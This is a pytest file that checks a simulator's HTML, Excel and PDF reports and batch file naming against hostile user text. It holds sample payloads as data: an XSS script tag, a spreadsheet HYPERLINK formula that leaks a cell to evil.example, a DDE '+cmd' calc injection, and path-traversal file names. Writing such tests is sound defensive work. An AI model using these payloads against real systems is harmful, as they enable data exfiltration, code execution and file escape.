"""Nothing executes from input in outputs: user text escaped in HTML, laid out safely in PDF, never a
formula in Excel; output file names from user text cannot leave their folder."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest

from simulator import batch, files
from simulator.engine import simulate
from simulator.report import build

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = files.load_scenario(ROOT / "scenarios" / "capacity_tokuyo_30beds.toml")
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile():
    meta = EXAMPLE.meta.model_copy(update={"title": FORMULA, "author": SCRIPT,
                                           "notes": SCRIPT + "\x1b[31m" + "長" * 3000 + "\u202e" + "x" * 500})
    org = EXAMPLE.organisation.model_copy(update={"name": "@SUM(1+1)", "management_policy": "+cmd|' /C calc'!A0"})
    return EXAMPLE.model_copy(update={"meta": meta, "organisation": org})


@pytest.fixture(scope="module")
def hostile():
    scenario = _hostile()
    return scenario, simulate(scenario)


def test_html_report_escapes_user_text(hostile):
    scenario, result = hostile
    html = build(scenario, result, "html", "ja", charts=False).decode("utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html  # no live tag from user text
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in html


def test_excel_report_has_no_formula_from_user_text(hostile):
    scenario, result = hostile
    book = openpyxl.load_workbook(io.BytesIO(build(scenario, result, "xlsx", "en", charts=False)))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(("=HYPERLINK", "@SUM", "+cmd")):
                    seen += 1
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    assert seen >= 1, "the hostile title should appear in the workbook as text"


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_pdf_report_lays_out_hostile_text(hostile, lang):
    scenario, result = hostile
    pdf = build(scenario, result, "pdf", lang, charts=False)
    assert pdf.startswith(b"%PDF") and len(pdf) > 1000


@pytest.mark.parametrize("name", ["../../escape.xlsx", "/etc/passwd.csv", "sub/../../x.csv", "a\x00b.xlsx",
                                  "..\\..\\win.xlsx", "CON.csv", "　.xlsx", ".hidden.csv"])
def test_batch_output_names_stay_in_their_folder(tmp_path, name):
    if "\x00" in name:
        assert "\x00" not in batch.safe_output_path(tmp_path / name.replace("/", "_")).name
        return
    target = tmp_path / name if not name.startswith("/") else Path(name)
    safe = batch.safe_output_path(target)
    assert ".." not in safe.name and "/" not in safe.name and "\\" not in safe.name and "\x00" not in safe.name
    assert safe.parent == target.parent
    assert safe.suffix in (".xlsx", ".csv")
